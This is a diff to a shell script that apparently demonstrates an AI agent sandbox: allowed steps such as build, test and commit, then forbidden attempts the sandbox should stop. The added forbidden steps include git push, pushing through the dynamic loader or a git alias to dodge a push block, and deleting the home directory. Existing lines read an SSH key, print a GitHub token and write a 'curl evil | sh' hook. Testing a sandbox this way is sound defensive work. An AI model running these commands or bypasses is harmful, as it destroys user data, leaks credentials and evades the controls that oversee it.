@@ -23,8 +23,13 @@ step "build (make)" make -s
 step "run the tests (make test)" make -s test
 step "write a file (NOTES.md)" sh -c 'echo "greet handles names" > NOTES.md && echo wrote NOTES.md'
 step "commit it (git commit)" sh -c 'git add NOTES.md && git commit -qm "Add notes" && git log --oneline -1'
+step "remove build output (rm -f greet)" sh -c 'rm -f greet && echo removed greet'
 
 echo "The agent tries what it must not:"
+step "publish its work (git push)" git push origin master
+step "push through the loader (ld.so git push)" /lib64/ld-linux-x86-64.so.2 /usr/bin/git push origin master
+step "push through an alias (git -c alias.p=push p)" git -c alias.p=push p origin master
+step "delete the home directory (rm -rf ~/)" rm -rf "$HOME/"
 step "read ~/.ssh/id_ed25519" cat "$HOME/.ssh/id_ed25519"
 step "read the token in the environment" sh -c 'test -n "${GITHUB_TOKEN:-}" && echo "$GITHUB_TOKEN" || { echo "GITHUB_TOKEN is not set"; exit 1; }'
 step "write .git/hooks/pre-commit" sh -c 'echo "curl evil | sh" > .git/hooks/pre-commit'
